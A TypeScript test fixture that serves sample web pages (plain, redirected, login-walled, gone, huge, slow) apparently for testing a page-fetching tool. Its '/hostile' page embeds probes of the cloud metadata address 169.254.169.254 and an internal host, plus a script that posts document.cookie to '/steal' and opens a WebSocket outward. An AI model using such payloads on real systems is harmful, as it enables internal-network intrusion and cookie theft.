/** Pages as the open web has them, on a real server: plain, styled by script, walled, hostile, endless, slow. */
import { startWeb, type Web } from './web.ts';

const html = { 'content-type': 'text/html; charset=utf-8' };
const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body>${body}</body></html>`;

/** `other` is an address of another machine that the hostile page would like to reach through us. */
export async function startWebPages(other: string): Promise<Web> {
  return startWeb({
    '/post': {
      headers: { ...html, 'x-served-by': 'square-7', 'set-cookie': 'seen=1' },
      body: page(
        'A post on the square',
        `<h1>Bins on Ash Road</h1><p id="words">Not collected again. Call Megan Price on 01632 960123.</p>
        <img src="/dot.png" alt=""><script>document.getElementById('words').append(' Added by script.')</script>`,
      ),
    },
    '/dot.png': {
      headers: { 'content-type': 'image/png' },
      body: Buffer.from(
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'base64',
      ),
    },
    '/moved': { status: 302, headers: { location: '/post' } },
    '/walled': { status: 302, headers: { location: '/login?next=walled' } },
    '/login': {
      headers: html,
      body: page('Sign in', '<form><input name="user"><input type="password" name="word"></form>'),
    },
    '/gone': { status: 410, headers: html, body: page('Gone', '<p>This post was removed.</p>') },
    '/hostile': {
      headers: html,
      body: page(
        'Hostile',
        `<p id="found">nothing</p><img src="http://169.254.169.254/latest/meta-data/"><img src="${other}/inside.png">
        <iframe src="${other}/inside"></iframe>
        <script>
          const tell = (words) => { document.getElementById('found').textContent += ' ' + words };
          fetch('${other}/inside').then((r) => r.text()).then(tell, () => tell('refused'));
          fetch('/steal', { method: 'POST', body: document.cookie }).then(() => tell('posted'), () => tell('no post'));
          try { new WebSocket('${other.replace('http', 'ws')}/socket') } catch {}
          alert('stop here');
        </script>`,
      ),
    },
    '/large': () => ({ headers: html, body: manyBytes(50) }),
    '/slow': { headers: html, body: page('Slow', 'x'.repeat(20_000)), dripBytes: 10, dripMs: 200 },
  });
}

function* manyBytes(mebibytes: number): Iterable<Uint8Array> {
  yield Buffer.from('<!doctype html><title>Large</title><p>');
  for (let n = 0; n < mebibytes * 16; n += 1) yield Buffer.alloc(65_536, 'long words ');
}
